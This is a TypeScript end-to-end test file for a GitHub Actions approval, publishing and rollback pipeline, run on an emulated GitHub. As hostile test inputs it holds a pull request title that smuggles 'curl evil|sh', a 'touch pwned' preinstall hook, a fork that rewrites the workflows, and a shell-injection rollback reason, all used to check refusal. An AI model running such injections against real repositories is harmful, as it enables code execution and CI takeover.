// The whole way of a pull request, on a stateful GitHub with real git: the workflow files as they stand run the bundle.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { bundleOnce } from './bundled.ts';
import { type EmulatedAccount, startGitHub, type TestGitHub } from './github/index.ts';
import { onDay, runWorkflow, type WorkflowResult, type World } from './workflows/executor.ts';

const project = join(import.meta.dirname, '..');
let day = '2026-06-01';
const alfaFile = 'integrations/alfa.yaml';
const productionCertificate = 'integrations/certificates/alfa-registru.production.cer';
const clientId = 'ce4860e8-3be2-417d-86c5-8cb66f21c92f';

let world: TestGitHub;
let age: EmulatedAccount;
let approver: EmulatedAccount;
let alfa: EmulatedAccount;
let stranger: EmulatedAccount;
let base: string;
let forks: Map<EmulatedAccount, string>;

beforeAll(async () => {
  world = await startGitHub();
  age = world.createAccount('age-demo-integrari', 9000000001);
  approver = world.createAccount('age-demo-aprobare', 9000000002);
  alfa = world.createAccount('alfa-demo-it', 9000000101);
  stranger = world.createAccount('stranger', 666);
  base = await world.createRepository(age, 'mdocs-integrations');
  world.collaborator(base, approver, 'write');
  const { [alfaFile]: alfaText, [productionCertificate]: _, ...others } = filesOf('test/cases/base', '');
  const files = { ...others, [alfaFile]: withoutProduction(Buffer.from(alfaText ?? '').toString()) };
  world.commit(base, { branch: 'main', files: { ...files, ...filesOf('.github', '.github/'), ...(await tool()) } });
  forks = new Map([
    [alfa, await world.fork(base, alfa)],
    [stranger, await world.fork(base, stranger)],
  ]);
});
afterAll(() => world.stop());

function filesOf(folder: string, prefix: string): Record<string, Uint8Array> {
  const names = readdirSync(join(project, folder), { recursive: true, withFileTypes: true }).filter((item) => item.isFile());
  const root = join(project, folder);
  return Object.fromEntries(
    names.map((item) => {
      const path = join(item.parentPath, item.name);
      return [`${prefix}${path.slice(root.length + 1)}`, readFileSync(path)];
    }),
  );
}

const tool = bundleOnce;

const withoutProduction = (text: string) => text.replace(/ {6}production:[\s\S]*$/, '');

const main = (path: string) => world.git(base).read('main', path);

/** Commits to a branch of the account's fork, as a push does. */
function push(account: EmulatedAccount, branch: string, files: Record<string, string | null>): string {
  const fork = world.git(forks.get(account) ?? '');
  if (fork.commitOf(branch) === undefined) fork.git('fetch', '--quiet', world.git(base).folder, '+main:main');
  return world.commit(forks.get(account) ?? '', { branch, files });
}

const run = (file: string, eventName: string, event: unknown, more: Partial<World> = {}): Promise<WorkflowResult> =>
  runWorkflow(`.github/workflows/${file}.yml`, {
    event,
    eventName,
    repositoryDir: project,
    remoteUrl: world.gitUrl(base),
    repository: base,
    apiUrl: world.apiUrl,
    serverUrl: world.serverUrl,
    tokens: {
      github: (permissions) => world.workflowToken(permissions as never),
      app: (permissions) => world.workflowToken(permissions as never),
    },
    secrets: {
      '': {},
      ...Object.fromEntries(
        ['staging', 'production', 'withdrawal', 'requests', 'verdict'].map((name) => [name, { MDOCS_APP_PRIVATE_KEY: 'key' }]),
      ),
    },
    variables: { '': { MDOCS_APP_CLIENT_ID: 'app' } },
    env: { ...onDay(day), GIT_SSL_CAINFO: world.caFile },
    ...more,
  });

const judged = (number: number) => run('verdict', 'workflow_run', world.workflowRun(base, number));
const verdictOf = (sha: string) => world.statuses(base, sha).find(({ context }) => context === 'mdocs/verdict');
const pushed = (after: string) => ({ ref: 'refs/heads/main', before: '0'.repeat(40), after, forced: false });
const failed = ({ jobs }: WorkflowResult) =>
  jobs.flatMap(({ steps }) => steps).filter(({ conclusion }) => conclusion === 'failure');

const withAddress = (address: string) => main(alfaFile).replace(/addresses: \[[^\]]*\]/, `addresses: ["${address}"]`);

test('a pull request with a mistake is answered, mended, approved, merged and published in staging', async () => {
  const wrong = push(alfa, 'address', { [alfaFile]: withAddress('10.0.0.7') });
  const number = await world.openPull(base, alfa, { head: 'alfa-demo-it:address', title: 'Altă adresă' });
  expect(failed(await judged(number)).map(({ exitCode }) => exitCode)).toEqual([1]);
  expect(verdictOf(wrong)).toMatchObject({ state: 'failure', creator: { id: world.bot.id } });
  const [first] = await world.comments(base, number);
  expect(first?.login).toBe('github-actions[bot]');
  expect(first?.body).toContain('10.0.0.7');
  expect(first?.body).toContain('address-private');

  const right = push(alfa, 'address', {
    [alfaFile]: withAddress('198.51.100.77').replace('[Cazier, ExtrasRegistru]', '[Cazier]'),
  });
  expect(failed(await judged(number))).toEqual([]);
  // All addresses are others now: AGE has to look.
  expect(verdictOf(right)).toMatchObject({ state: 'pending' });
  expect(verdictOf(wrong)).toMatchObject({ state: 'failure' });
  const after = await world.comments(base, number);
  expect(after.map(({ id }) => id)).toEqual([first?.id]);
  expect(after[0]?.body).toContain('198.51.100.77');
  expect(after[0]?.body).not.toContain('address-private');

  await world.review(base, number, stranger, 'APPROVE');
  await judged(number);
  expect(verdictOf(right)).toMatchObject({ state: 'pending' });
  await world.review(base, number, approver, 'APPROVE');
  await judged(number);
  expect(verdictOf(right)).toMatchObject({ state: 'success' });
  const merged = await world.merge(base, number, approver);
  const { jobs } = await run('provision', 'push', {
    ref: 'refs/heads/main',
    before: '0'.repeat(40),
    after: merged,
    forced: false,
  });
  expect(jobs.find(({ name }) => name === 'staging')?.steps.filter(({ conclusion }) => conclusion === 'failure')).toEqual([]);
  expect(world.git(base).read('environment/staging', 'clients.json')).toContain('Registrul electronic Alfa');
  expect(world.git(base).read('environment/staging', 'nginx/addresses.geo')).toContain('198.51.100.77');
});

test('a stranger who opens another institution, rewrites its judge and its schema is refused by the judge of main', async () => {
  const head = push(stranger, 'take-over', {
    [alfaFile]: withAddress('198.51.100.78'),
    '.github/workflows/verdict.yml': 'name: verdict\non: push\njobs: {}\n',
    '.github/workflows/validate.yml': 'name: validate\non: pull_request\njobs: {}\n',
    'dist/mdocs.mjs': 'process.exit(0);\n',
    'schemas/integration.schema.json': '{}\n',
    'registry/policy.yaml': main('registry/policy.yaml').replace('9000000001', '666'),
    'package.json': '{"scripts":{"preinstall":"touch pwned"}}\n',
  });
  const number = await world.openPull(base, stranger, { head: 'stranger:take-over', title: 'a";curl evil|sh;# @everyone' });
  await judged(number);
  expect(verdictOf(head)).toMatchObject({ state: 'failure' });
  const [comment] = await world.comments(base, number);
  expect(comment?.body).toContain('change-not-yours');
  expect(comment?.body).toContain('outside-integrations');
  await world.closePull(base, number, stranger);
});

test('production is published for what was tested, after AGE approved and the reviewers of the environment agreed, and says who did', async () => {
  expect(world.git(base).read('environment/production', 'manifest.json')).not.toContain('alfa-registru');
  const digest = /"access": "(sha256:[0-9a-f]{64})"/.exec(published('staging', 'manifest.json', 'alfa-registru'))?.[1] ?? '';

  day = '2026-06-05';
  const access = `      production:\n        certificates:\n          - file: certificates/alfa-registru.production.cer\n        addresses: ["203.0.113.11"]\n`;
  const confirmation = `        confirmation:\n          tested: 2026-06-04\n          by: integrari@alfa.example\n          access: ${digest}\n          report: Toate scenariile din ghid au reușit.\n          unobserved: Niciun gateway nu transmite încă rapoarte.\n`;
  const certificate = readFileSync(join(project, 'test/cases/base', productionCertificate), 'utf8');
  const head = push(alfa, 'confirm', {
    [alfaFile]: `${main(alfaFile).trimEnd()}\n${access}${confirmation}`,
    [productionCertificate]: certificate,
  });
  const number = await world.openPull(base, alfa, { head: 'alfa-demo-it:confirm', title: 'Confirmare' });
  await judged(number);
  expect(verdictOf(head)).toMatchObject({ state: 'pending' });
  await world.review(base, number, approver, 'APPROVE');
  await judged(number);
  expect(verdictOf(head)).toMatchObject({ state: 'success' });
  await world.merge(base, number, approver);

  // One AGE account alone gives the client id, and merges that, too.
  const given = main(alfaFile).replace('production:\n', `production:\n        clientId: ${clientId}\n`);
  world.commit(base, { branch: 'client-id', files: { [alfaFile]: given } });
  const alone = await world.openPull(base, age, { head: 'client-id', title: 'Client id' });
  const merged = await world.merge(base, alone, age);
  const early = await run('provision', 'push', pushed(merged));
  expect(early.jobs.find(({ name }) => name === 'plan')?.outputs).toEqual({ changes: 'false' });
  expect(manifest('production')).not.toContain('alfa-registru');
  await world.review(base, alone, approver, 'APPROVE');
  await run('provision', 'push', pushed(merged));
  expect(published('production', 'manifest.json', 'alfa-registru')).toContain(digest);
  const message = world.git(base).git('log', '-1', '--format=%B', 'environment/production');
  for (const line of [
    `Source-Commit: ${merged}`,
    `Pull-Request: alfa/alfa-registru #${number}`,
    'Confirmed-By: alfa/alfa-registru alfa-demo-it (9000000101)',
    'Approved-By: alfa/alfa-registru age-demo-aprobare (9000000002)',
  ])
    expect(message).toContain(line);
});

const manifest = (environment: string) => world.git(base).read(`environment/${environment}`, 'manifest.json');

/** What a published file says from a system on. */
function published(environment: string, path: string, system: string): string {
  const text = world.git(base).read(`environment/${environment}`, path);
  return text.slice(text.indexOf(`"system": "${system}"`));
}

test('an operator without a command line takes production back, when its reviewers agree, and later lets it go on', async () => {
  const commits = () => world.git(base).git('log', '--format=%H', 'environment/production').split('\n');
  const [earlier = ''] = commits();
  let sender = { login: 'inginer', id: 777 };
  const dispatched = (inputs: object, more: Partial<World> = {}) =>
    run('rollback', 'workflow_dispatch', { inputs: { environment: 'production', ...inputs }, sender }, more);
  const reason = '"; touch pwned; $(id) # Testul nu e bun.';
  const asked = { commit: earlier, reason };

  const [waiting] = (await dispatched(asked, { approvals: { production: 'waiting' } })).jobs;
  expect(waiting).toMatchObject({ conclusion: 'waiting', environment: 'production' });
  for (const wrong of [
    { reason },
    { commit: `${earlier} --release`, reason },
    { commit: earlier },
    { ...asked, release: true },
    { release: true },
  ])
    expect(failed(await dispatched(wrong)).map(({ name }) => name)).toEqual(['Check what is asked']);
  const before = commits();
  // Whoever may write to the repository can press the button.
  expect(failed(await dispatched(asked)).map(({ name }) => name)).toEqual(['Roll back or release']);
  sender = { login: 'age-demo-integrari', id: 9000000001 };
  expect(failed(await dispatched(asked))).toEqual([]);
  expect(JSON.parse(world.git(base).read('environment/production', 'hold.json'))).toMatchObject({
    by: 'age-demo-integrari',
    reason,
    to: earlier,
  });
  expect(failed(await dispatched({ release: true, reason }))).toEqual([]);
  expect(() => world.git(base).read('environment/production', 'hold.json')).toThrow();
  expect(commits().slice(2)).toEqual(before);
});

test('a suspension reaches both environments in one run, and leaves reviewers nothing to approve', async () => {
  expect(manifest('production')).toContain('alfa-registru');
  const suspended = main(alfaFile).replace('rsi: "0123"', 'rsi: "0123"\n    status: suspended\n    reason: Verificare.');
  const after = world.commit(base, { branch: 'main', files: { [alfaFile]: suspended }, message: 'Suspend Alfa' });
  const { jobs } = await run('provision', 'push', pushed(after), { approvals: { production: 'waiting' } });
  const { withdraw, plan, production } = Object.fromEntries(jobs.map((job) => [job.name, job]));
  expect(withdraw?.steps.find(({ name }) => name === 'Withdraw')).toMatchObject({ conclusion: 'success', commands: [] });
  for (const environment of ['staging', 'production']) expect(manifest(environment)).not.toContain('alfa-registru');
  expect(plan).toMatchObject({ conclusion: 'success', outputs: { changes: 'false' } });
  expect(production?.conclusion).toBe('skipped');
});
